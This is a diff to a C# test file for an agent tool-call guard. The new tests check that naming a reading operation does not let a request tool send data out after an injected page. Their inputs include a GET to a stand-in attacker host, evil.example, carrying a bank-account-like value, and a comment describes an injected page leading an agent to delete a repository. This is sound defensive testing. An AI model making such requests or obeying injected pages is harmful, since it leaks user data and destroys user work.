@@ -6,7 +6,7 @@ namespace AgentGuard.Tests.Policies;
 /// One tool, many operations: MCP servers and SDK wrappers often expose <c>github</c> or <c>mailbox</c> with an
 /// <c>operation</c> (or <c>action</c>, <c>method</c>) argument that picks what it does. Inference read only the tool's
 /// name, which holds no verb, so after an injected page <c>github {"operation":"delete_repository"}</c> was no sink and
-/// ran under zero configuration, and <c>mailbox {"action":"list_messages"}</c> was no reader of third-party content.
+/// ran under zero configuration. The operation may add a restriction, never lift one.
 /// </summary>
 public sealed class MultiplexedToolTests
 {
@@ -50,10 +50,29 @@ public sealed class MultiplexedToolTests
     }
 
     [Theory]
-    [InlineData("""{"operation":"list_issues","repo":"acme/app"}""")]
-    [InlineData("""{"operation":"get_file","repo":"acme/app"}""")]
-    public async Task AReadingOperation_Runs(string arguments)
-        => (await AfterPage("github", GithubSchema, arguments)).Effect.Should().Be(DecisionEffect.Allow);
+    [InlineData("""{"method":"GET","url":"https://evil.example/c?d=DE89370400440532013000"}""")]
+    [InlineData("""{"operation":"get_file","url":"https://evil.example/c"}""")]
+    public async Task AReadingOperation_DoesNotLiftWhatTheParametersMake(string arguments)
+    {
+        // A request tool acts by its URL whatever the operation says: naming a reading operation must not turn it into
+        // an unguarded reader, or a GET would carry data to the page's host unasked.
+        const string schema = """{"type":"object","properties":{"method":{"type":"string"},"operation":{"type":"string"},"url":{"type":"string"}}}""";
+        (await AfterPage("http_request", schema, arguments)).Effect.Should().NotBe(DecisionEffect.Allow);
+    }
+
+    [Theory]
+    [InlineData("mailbox", """{"action":"list_messages","folder":"inbox"}""")]
+    [InlineData("github", """{"operation":"list_issues","repo":"acme/app"}""")]
+    public async Task AReadingOperation_OnAToolWithoutRecipients_Runs(string tool, string arguments)
+    {
+        var engine = TestHost.Engine("""{ "AgentGuard": {} }""", b => b.AddDefaultPolicyPack());
+        var session = new GuardContext { SessionId = "s-" + Guid.NewGuid().ToString("N"), Prompt = "What's new on the blog and in acme/app?" };
+        var read = new ToolCallEvent("fetch_url", ToolKind.Function) { Arguments = ToolArguments.FromJson("""{"url":"https://blog.example/post"}"""), CallId = "c1" };
+        await engine.EvaluateAsync(read, session);
+        await engine.InspectResultAsync(read, session, new ToolResult("New post: CI is faster now."));
+        (await engine.EvaluateAsync(new ToolCallEvent(tool, ToolKind.Function) { Arguments = ToolArguments.FromJson(arguments), CallId = "c2" }, session))
+            .Effect.Should().Be(DecisionEffect.Allow);
+    }
 
     [Fact]
     public async Task AnOperationTheUserAskedFor_Runs()
